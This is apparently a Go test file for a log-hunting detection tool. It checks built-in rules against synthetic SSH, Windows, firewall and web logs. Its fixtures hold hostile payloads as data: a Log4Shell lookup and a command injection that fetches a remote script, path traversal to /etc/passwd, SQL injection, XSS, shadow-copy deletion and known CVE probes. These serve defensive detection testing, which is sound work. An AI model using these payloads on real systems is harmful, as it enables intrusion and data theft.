package hunt

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"tocsin/internal/ruleset"
)

// TestBuiltinRules runs the embedded pack over events that must and must
// not fire each rule, through the whole hunt pipeline (parsers included).
func TestBuiltinRules(t *testing.T) {
	rs := ruleset.Check(ruleset.Builtin(), nil)
	for _, p := range rs.Problems {
		t.Fatalf("built-in pack: %v", p)
	}
	t0 := time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)
	syslogAt := func(d time.Duration, msg string) string {
		return t0.Add(d).Format(time.RFC3339) + " srv-mairie sshd[4242]: " + msg
	}
	failures := func(ip string, n int, every time.Duration) []string {
		var out []string
		for i := range n {
			out = append(out, syslogAt(time.Duration(i)*every, fmt.Sprintf("Failed password for root from %s port %d ssh2", ip, 40000+i)))
		}
		return out
	}
	invalid := func(ip string, users ...string) []string {
		var out []string
		for i, u := range users {
			out = append(out, syslogAt(time.Duration(i)*time.Second, fmt.Sprintf("Invalid user %s from %s port %d", u, ip, 50000+i)))
		}
		return out
	}
	sysmon := func(image, cmd string) string {
		return `{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"srv01","TimeCreated":{"#attributes":{"SystemTime":"2026-03-02T08:00:00Z"}}},"EventData":{"Image":` + jsonString(image) + `,"CommandLine":` + jsonString(cmd) + `}}}`
	}
	security := func(id int) string {
		return fmt.Sprintf(`{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog"}},"EventID":%d,"Channel":"Security","Computer":"dc01","TimeCreated":{"#attributes":{"SystemTime":"2026-03-02T08:00:00Z"}}},"EventData":{"SubjectUserName":"svc"}}}`, id)
	}
	logonFailure := func(i int, d time.Duration, ip, user string) string {
		return fmt.Sprintf(`{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":4625,"Channel":"Security","Computer":"dc01.mairie.local","TimeCreated":{"#attributes":{"SystemTime":%q}}},"EventData":{"TargetUserName":%q,"TargetDomainName":"MAIRIE","LogonType":3,"IpAddress":%q,"IpPort":"%d","Status":"0xc000006d"}}}`,
			t0.Add(d).Format(time.RFC3339), user, ip, 50000+i)
	}
	groupAdd := func(id int, group string) string {
		return fmt.Sprintf(`{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":%d,"Channel":"Security","Computer":"dc01.mairie.local","TimeCreated":{"#attributes":{"SystemTime":"2026-03-02T08:00:00Z"}}},"EventData":{"MemberName":"CN=intrus,CN=Users,DC=mairie,DC=local","TargetUserName":%q,"SubjectUserName":"jdupont"}}}`, id, group)
	}
	access := func(ip string, d time.Duration, method, uri string, status int, ua string) string {
		return fmt.Sprintf(`%s - - [%s] "%s %s HTTP/1.1" %d 512 "-" "%s"`, ip, t0.Add(d).Format("02/Jan/2006:15:04:05 -0700"), method, uri, status, ua)
	}
	browser := "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"
	repeatReq := func(n int, every time.Duration, f func(i int, d time.Duration) string) []string {
		var out []string
		for i := range n {
			out = append(out, f(i, time.Duration(i)*every))
		}
		return out
	}
	fortigate := func(i int, d time.Duration, ip string) string {
		return fmt.Sprintf(`<189>date=%s time=%s devname="FGT-MAIRIE" devid="FGT60F" logid="0101039426" type="event" subtype="vpn" action="ssl-login-fail" remip=%s user="user%d" reason="sslvpn_login_permission_denied"`,
			t0.Add(d).Format("2006-01-02"), t0.Add(d).Format("15:04:05"), ip, i)
	}
	stormshield := func(i int, d time.Duration, ip string) string {
		return fmt.Sprintf(`id=firewall time="%s" fw="SN310" tz=+0000 user="agent%d" src=%s error=1 msg="Authentication failed" logtype="auth"`,
			t0.Add(d).Format("2006-01-02 15:04:05"), i, ip)
	}
	cases := []struct {
		name  string
		file  string
		lines []string
		want  []string // titles of medium+ detections and correlations, sorted
	}{
		{"brute force: 10 failures in 5 minutes", "auth.log", failures("203.0.113.7", 10, 20*time.Second),
			[]string{"SSH Brute Force", "SSH Slow Brute Force"}},
		{"9 failures are not brute force", "auth.log", failures("203.0.113.7", 9, 20*time.Second), nil},
		{"slow brute force: 10 failures in an hour", "auth.log", failures("198.51.100.9", 10, 6*time.Minute),
			[]string{"SSH Slow Brute Force"}},
		{"10 failures over more than an hour", "auth.log", failures("198.51.100.9", 10, 7*time.Minute), nil},
		{"failures from different addresses do not add up", "auth.log",
			append(failures("192.0.2.1", 5, time.Second), failures("192.0.2.2", 5, time.Second)...), nil},
		{"user enumeration: 5 invalid users", "auth.log", invalid("203.0.113.9", "admin", "test", "oracle", "pi", "git"),
			[]string{"SSH User Enumeration"}},
		{"4 invalid users", "auth.log", invalid("203.0.113.9", "admin", "test", "oracle", "pi"), nil},
		{"the same invalid user 5 times", "auth.log", invalid("203.0.113.9", "admin", "admin", "admin", "admin", "admin"), nil},
		{"repeated message counts as many failures", "auth.log",
			[]string{syslogAt(0, "message repeated 10 times: [ Failed password for root from 203.0.113.5 port 4000 ssh2]")},
			[]string{"SSH Brute Force", "SSH Slow Brute Force"}},
		{"shadow copies deleted", "win.jsonl", []string{sysmon(`C:\Windows\System32\vssadmin.exe`, `vssadmin.exe Delete Shadows /All /Quiet`)},
			[]string{"Shadow Copies or Backups Deleted"}},
		{"backup catalog deleted", "win.jsonl", []string{sysmon(`C:\Windows\System32\wbadmin.exe`, `wbadmin delete catalog -quiet`)},
			[]string{"Shadow Copies or Backups Deleted"}},
		{"shadow copies listed", "win.jsonl", []string{sysmon(`C:\Windows\System32\vssadmin.exe`, `vssadmin list shadows`)}, nil},
		{"security log cleared", "win.jsonl", []string{security(1102)}, []string{"Windows Security Event Log Cleared"}},
		{"event log service shut down", "win.jsonl", []string{security(1100)}, nil},
		{"Windows brute force: 10 failures from one address", "dc.jsonl", repeatReq(10, 20*time.Second, func(i int, d time.Duration) string {
			return logonFailure(i, d, "203.0.113.45", "administrateur")
		}), []string{"Windows Logon Brute Force"}},
		{"Windows password spraying: 10 accounts in an hour", "dc.jsonl", repeatReq(10, 5*time.Minute, func(i int, d time.Duration) string {
			return logonFailure(i, d, "203.0.113.46", fmt.Sprintf("agent%d", i))
		}), []string{"Windows Password Spraying"}},
		{"9 Windows failures", "dc.jsonl", repeatReq(9, 20*time.Second, func(i int, d time.Duration) string {
			return logonFailure(i, d, "203.0.113.45", "administrateur")
		}), nil},
		{"local Windows failures have no source to blame", "dc.jsonl", repeatReq(20, time.Second, func(i int, d time.Duration) string {
			return logonFailure(i, d, "-", "administrateur")
		}), nil},
		{"member added to Admins du domaine", "dc.jsonl", []string{groupAdd(4728, "Admins du domaine")}, []string{"Member Added to a Privileged Windows Group"}},
		{"member added to Administrators", "dc.jsonl", []string{groupAdd(4732, "Administrators")}, []string{"Member Added to a Privileged Windows Group"}},
		{"member added to an ordinary group", "dc.jsonl", []string{groupAdd(4728, "Comptabilité")}, nil},
		{"web probing: 20 not-found in 5 minutes", "access.log", repeatReq(20, 10*time.Second, func(i int, d time.Duration) string {
			return access("203.0.113.20", d, "GET", fmt.Sprintf("/admin%d", i), 404, browser)
		}), []string{"Web Probing"}},
		{"19 not-found", "access.log", repeatReq(19, 10*time.Second, func(i int, d time.Duration) string {
			return access("203.0.113.20", d, "GET", fmt.Sprintf("/admin%d", i), 404, browser)
		}), nil},
		{"crawling: 100 pages in a minute", "access.log", repeatReq(100, 500*time.Millisecond, func(i int, d time.Duration) string {
			return access("198.51.100.30", d, "GET", fmt.Sprintf("/news/item%d", i), 200, browser)
		}), []string{"Aggressive Web Crawling"}},
		{"a visitor loading 100 assets is not crawling", "access.log", repeatReq(100, 500*time.Millisecond, func(i int, d time.Duration) string {
			return access("198.51.100.30", d, "GET", fmt.Sprintf("/static/img%d.png", i), 200, browser)
		}), nil},
		{"sensitive file", "access.log", []string{access("203.0.113.21", 0, "GET", "/.git/config", 404, "Go-http-client/1.1")}, []string{"Sensitive File Probe"}},
		{"database dump", "access.log", []string{access("203.0.113.21", 0, "GET", "/backup.sql", 404, browser)}, []string{"Sensitive File Probe"}},
		{"an ordinary page", "access.log", []string{access("10.0.0.5", 0, "GET", "/services/waste-collection?week=12", 200, browser)}, nil},
		{"path traversal in the query", "access.log", []string{access("203.0.113.22", 0, "GET", "/download?file=../../../../etc/passwd", 400, browser)}, []string{"Path Traversal Attempt"}},
		{"double-encoded traversal", "access.log", []string{access("203.0.113.22", 0, "GET", "/assets/%252e%252e%252f%252e%252e%252fetc%252fpasswd", 404, browser)}, []string{"Path Traversal Attempt"}},
		{"scanner user agent", "access.log", []string{access("203.0.113.23", 0, "GET", "/", 200, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")}, []string{"Known Attack Tool User Agent"}},
		{"SQL injection", "access.log", []string{access("203.0.113.24", 0, "GET", "/news?id=1%20union%20select%20password%20from%20users", 500, browser)}, []string{"SQL Injection Attempt"}},
		{"cross-site scripting", "access.log", []string{access("203.0.113.25", 0, "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, browser)}, []string{"Cross-Site Scripting Attempt"}},
		{"Log4Shell in the user agent", "access.log", []string{access("203.0.113.26", 0, "GET", "/", 200, "${jndi:ldap://203.0.113.26/a}")}, []string{"Command Injection or Log4Shell Attempt"}},
		{"command injection in the query", "access.log", []string{access("203.0.113.29", 0, "GET", "/cgi-bin/ping.cgi?host=127.0.0.1;wget%20http://203.0.113.29/x.sh", 200, browser)}, []string{"Command Injection or Log4Shell Attempt"}},
		{"a semicolon in an ordinary search", "access.log", []string{access("10.0.0.6", 0, "GET", "/recherche?q=chat;chien&page=2", 200, browser)}, nil},
		{"web shell probe", "access.log", []string{access("203.0.113.27", 0, "GET", "/uploads/c99.php", 404, browser)}, []string{"Web Shell Probe"}},
		{"WordPress login brute force", "access.log", repeatReq(5, 20*time.Second, func(i int, d time.Duration) string {
			return access("203.0.113.28", d, "POST", "/wp-login.php", 200, browser)
		}), []string{"WordPress Login Brute Force"}},
		{"VPN brute force on a FortiGate", "fw.log", repeatReq(10, 30*time.Second, func(i int, d time.Duration) string { return fortigate(i, d, "203.0.113.40") }),
			[]string{"VPN or Firewall Brute Force"}},
		{"9 VPN failures", "fw.log", repeatReq(9, 30*time.Second, func(i int, d time.Duration) string { return fortigate(i, d, "203.0.113.40") }), nil},
		{"VPN brute force across FortiGate and Stormshield", "fw.log", append(
			repeatReq(5, 30*time.Second, func(i int, d time.Duration) string { return fortigate(i, d, "203.0.113.41") }),
			repeatReq(5, 30*time.Second, func(i int, d time.Duration) string { return stormshield(i, d+3*time.Minute, "203.0.113.41") })...),
			[]string{"VPN or Firewall Brute Force"}},
		{"password spraying: 10 accounts in an hour", "auth.log", repeatReq(10, 5*time.Minute, func(i int, d time.Duration) string {
			return syslogAt(d, fmt.Sprintf("Failed password for user%d from 198.51.100.50 port %d ssh2", i, 40000+i))
		}), []string{"SSH Password Spraying", "SSH Slow Brute Force"}},
		{"FortiOS path traversal (CVE-2018-13379)", "access.log", []string{access("203.0.113.60", 0, "GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 200, browser)},
			[]string{"Known CVE Exploit Probe", "Path Traversal Attempt"}},
		{"Spring4Shell", "access.log", []string{access("203.0.113.61", 0, "POST", "/app?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", 200, browser)},
			[]string{"Known CVE Exploit Probe"}},
		{"web login brute force", "access.log", repeatReq(10, 10*time.Second, func(i int, d time.Duration) string {
			return access("203.0.113.62", d, "POST", "/portail/connexion", 401, browser)
		}), []string{"Web Login Brute Force"}},
		{"10 successful logins", "access.log", repeatReq(10, 10*time.Second, func(i int, d time.Duration) string {
			return access("203.0.113.62", d, "POST", "/portail/connexion", 302, browser)
		}), nil},
		{"root logs in from a new source after the learning day", "auth.log", []string{
			syslogAt(0, "Accepted publickey for root from 10.1.2.3 port 50000 ssh2: ED25519 SHA256:abc"),
			syslogAt(20*time.Hour, "Accepted password for root from 10.1.2.4 port 50001 ssh2"),
			syslogAt(30*time.Hour, "Accepted publickey for root from 10.1.2.3 port 50002 ssh2: ED25519 SHA256:abc"),
			syslogAt(31*time.Hour, "Accepted password for root from 203.0.113.70 port 50003 ssh2"),
		}, []string{"SSH Administrator Logon From a New Source"}},
		{"root from its usual sources, and a user from a new one", "auth.log", []string{
			syslogAt(0, "Accepted publickey for root from 10.1.2.3 port 50000 ssh2: ED25519 SHA256:abc"),
			syslogAt(2*time.Hour, "Accepted password for root from 10.1.2.4 port 50001 ssh2"),
			syslogAt(50*time.Hour, "Accepted publickey for root from 10.1.2.4 port 50002 ssh2: ED25519 SHA256:abc"),
			syslogAt(0, "Accepted password for alice from 10.1.2.9 port 50003 ssh2"),
			syslogAt(50*time.Hour, "Accepted password for alice from 203.0.113.71 port 50004 ssh2"),
			syslogAt(51*time.Hour, "Failed password for root from 203.0.113.72 port 50005 ssh2"),
		}, nil},
		{"4 WordPress logins", "access.log", repeatReq(4, 20*time.Second, func(i int, d time.Duration) string {
			return access("203.0.113.28", d, "POST", "/wp-login.php", 200, browser)
		}), nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			path := filepath.Join(t.TempDir(), c.file)
			if err := os.WriteFile(path, []byte(strings.Join(c.lines, "\n")+"\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			out, errs, _ := hunt(t, rs, "jsonl", 2, path)
			got := alertTitles(t, out)
			if strings.Join(got, "|") != strings.Join(c.want, "|") {
				t.Errorf("fired %q, want %q\nstderr: %s", got, c.want, errs)
			}
		})
	}
}

// alertTitles lists the distinct titles of medium or higher lines.
func alertTitles(t *testing.T, jsonl string) []string {
	t.Helper()
	seen := map[string]bool{}
	for _, l := range strings.Split(strings.TrimSpace(jsonl), "\n") {
		if l == "" {
			continue
		}
		var d struct {
			Rule struct{ Title, Level string }
		}
		if err := jsonUnmarshal([]byte(l), &d); err != nil {
			t.Fatalf("bad JSON line %q: %v", l, err)
		}
		if rank(d.Rule.Level) >= rank("medium") {
			seen[d.Rule.Title] = true
		}
	}
	var out []string
	for k := range seen {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func jsonUnmarshal(b []byte, v any) error { return json.Unmarshal(b, v) }

// The summary names the hosts each flagged source went for, from its
// correlations (brute force on two servers) and its detections (a web
// site probed).
func TestSourceHosts(t *testing.T) {
	rs := ruleset.Check(ruleset.Builtin(), nil)
	dir := t.TempDir()
	t0 := time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)
	var auth []string
	for i := range 20 {
		host := []string{"srv-mairie", "srv-ecole"}[i%2]
		auth = append(auth, fmt.Sprintf("%s %s sshd[1]: Failed password for root from 203.0.113.7 port %d ssh2", t0.Add(time.Duration(i)*time.Second).Format(time.RFC3339), host, 40000+i))
	}
	web := fmt.Sprintf(`www.mairie.example 203.0.113.8 - - [%s] "GET /.git/config HTTP/1.1" 404 0 "-" "curl/8"`, t0.Format("02/Jan/2006:15:04:05 -0700"))
	var dc []string
	for i := range 10 {
		dc = append(dc, fmt.Sprintf(`{"Event":{"System":{"EventID":4625,"Channel":"Security","Computer":"dc01.mairie.local","TimeCreated":{"#attributes":{"SystemTime":%q}}},"EventData":{"TargetUserName":"admin","IpAddress":"203.0.113.9"}}}`,
			t0.Add(time.Duration(i)*time.Second).Format(time.RFC3339)))
	}
	for name, lines := range map[string][]string{"auth.log": auth, "access.log": {web}, "dc.jsonl": dc} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(strings.Join(lines, "\n")+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	_, _, sum := hunt(t, rs, "jsonl", 2, dir)
	for ip, want := range map[string]string{"203.0.113.7": "srv-ecole srv-mairie", "203.0.113.8": "www.mairie.example", "203.0.113.9": "dc01.mairie.local"} {
		st := sum.BySource[ip]
		if st == nil {
			t.Fatalf("%s not flagged", ip)
		}
		var got []string
		for h := range st.Hosts {
			got = append(got, h)
		}
		sort.Strings(got)
		if strings.Join(got, " ") != want {
			t.Errorf("%s went for %q, want %q", ip, got, want)
		}
	}
}
